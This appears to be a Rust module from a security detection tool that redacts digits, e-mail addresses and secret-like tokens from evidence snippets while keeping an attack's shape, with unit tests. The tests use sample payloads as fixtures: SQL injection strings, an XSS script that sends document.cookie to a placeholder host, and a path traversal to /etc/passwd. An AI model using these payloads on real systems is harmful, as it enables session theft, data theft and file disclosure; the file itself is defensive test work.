//! Minimized evidence: what a finding may say about the input that triggered it.
//!
//! A snippet keeps the attack's shape (its operators, keywords and punctuation) but not
//! the data around it: it is cut to [`MAX_SNIPPET_CHARS`], every digit becomes `0`, e-mail
//! addresses become `<email>` and long random-looking tokens (keys, session ids, JWTs,
//! hashes) become `<token>`.

/// Longest snippet, in characters.
pub const MAX_SNIPPET_CHARS: usize = 120;
/// Shortest run of token characters treated as a secret-like token.
pub const MIN_TOKEN_CHARS: usize = 16;

fn is_token_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '+' | '/' | '=' | '.')
}

fn looks_random(run: &str) -> bool {
    let letters = run.chars().filter(|c| c.is_ascii_alphabetic()).count();
    let digits = run.chars().filter(|c| c.is_ascii_digit()).count();
    let upper = run.chars().filter(|c| c.is_ascii_uppercase()).count();
    let lower = run.chars().filter(|c| c.is_ascii_lowercase()).count();
    run.chars().count() >= MIN_TOKEN_CHARS
        && (digits > 0 && letters > 0 || (upper > 0 && lower > 0 && upper * 4 >= lower))
        && !run.contains("..")
        && !run.contains('/') // paths keep their shape
}

/// Minimizes `text` (a decoded input) into a snippet.
pub fn minimize(text: &str) -> String {
    let mut out = String::new();
    let mut run = String::new();
    let flush = |run: &mut String, out: &mut String| {
        if run.is_empty() {
            return;
        }
        if run.contains('@') && run.split('@').nth(1).is_some_and(|d| d.contains('.')) {
            out.push_str("<email>");
        } else if looks_random(run) {
            out.push_str("<token>");
        } else {
            out.extend(
                run.chars()
                    .map(|c| if c.is_ascii_digit() { '0' } else { c }),
            );
        }
        run.clear();
    };
    for c in text.chars() {
        if is_token_char(c) || c == '@' {
            run.push(c);
        } else {
            flush(&mut run, &mut out);
            if c.is_control() {
                out.push(' ');
            } else if c.is_ascii_digit() {
                out.push('0');
            } else {
                out.push(c);
            }
        }
        if out.chars().count() > MAX_SNIPPET_CHARS * 2 {
            break;
        }
    }
    flush(&mut run, &mut out);
    let mut snippet: String = out.chars().take(MAX_SNIPPET_CHARS).collect();
    if out.chars().count() > MAX_SNIPPET_CHARS {
        snippet.push('…');
    }
    snippet
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn keeps_shape_masks_data() {
        assert_eq!(minimize("1234' OR '1'='1"), "0000' OR '0'='0");
        assert_eq!(
            minimize("<script>fetch('//x?c='+document.cookie)</script>"),
            "<script>fetch('//x?c='+document.cookie)</script>"
        );
        let s = minimize(
            "bob@example.com' union select password from users where token='eyJhbGciOiJIUzI1NiJ9abc123'--",
        );
        assert!(s.starts_with("<email>' union select password"), "{s}");
        assert!(s.contains("<token>") && !s.contains("eyJ"), "{s}");
        assert_eq!(minimize("../../etc/passwd"), "../../etc/passwd");
        let long = "a".repeat(500);
        assert!(minimize(&long).chars().count() <= MAX_SNIPPET_CHARS + 1);
    }
}
